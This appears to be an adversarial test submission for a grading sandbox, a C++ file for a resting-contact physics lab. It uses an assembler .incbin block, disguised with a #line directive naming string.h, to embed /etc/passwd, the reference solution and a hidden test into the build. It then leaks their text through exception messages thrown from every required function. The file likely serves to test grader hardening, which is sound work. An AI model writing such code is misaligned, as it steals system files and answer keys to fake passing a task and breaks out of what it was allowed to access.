// adversarial: read files at compile time with .incbin (hidden by #line) — the solution, a hidden test and the password file — and throw their text from every function, so that it reaches the report as the exception's message
// mode: replace
// file: labs/06_resting_contact/contact.cpp
// secret: root:x:0:0
// quick
#line 1 "/usr/include/string.h"
#include <stdexcept>
#include <string>

#include "physlab/resting.hpp"

asm(".section .rodata\n"
    "physlab_stolen:\n"
    ".incbin \"/etc/passwd\"\n"
    ".incbin \"{ROOT}/solutions/06_resting_contact/lcp.cpp\"\n"
    ".incbin \"{ROOT}/tests/hidden/06_resting_contact/test_hidden.cpp\"\n"
    ".byte 0\n"
    ".global physlab_stolen_text\n"
    "physlab_stolen_text: .quad physlab_stolen\n"
    ".text\n");
extern "C" const char* const physlab_stolen_text;

namespace physlab {

MatX contactMatrix(const std::vector<ContactBody>&, const std::vector<ContactRow>&) {
  throw std::runtime_error(physlab_stolen_text);
}

VecX accelerationBias(const std::vector<ContactBody>&, const std::vector<AppliedLoads>&, const std::vector<ContactRow>&) {
  throw std::runtime_error(physlab_stolen_text);
}

VecX velocityBias(const std::vector<ContactBody>&, const std::vector<ContactRow>&, const VecX&, double, double, double) {
  throw std::runtime_error(physlab_stolen_text);
}

LcpProblem frictionPyramid(const MatX&, const VecX&, const VecX&, int) {
  throw std::runtime_error(physlab_stolen_text);
}

}  // namespace physlab
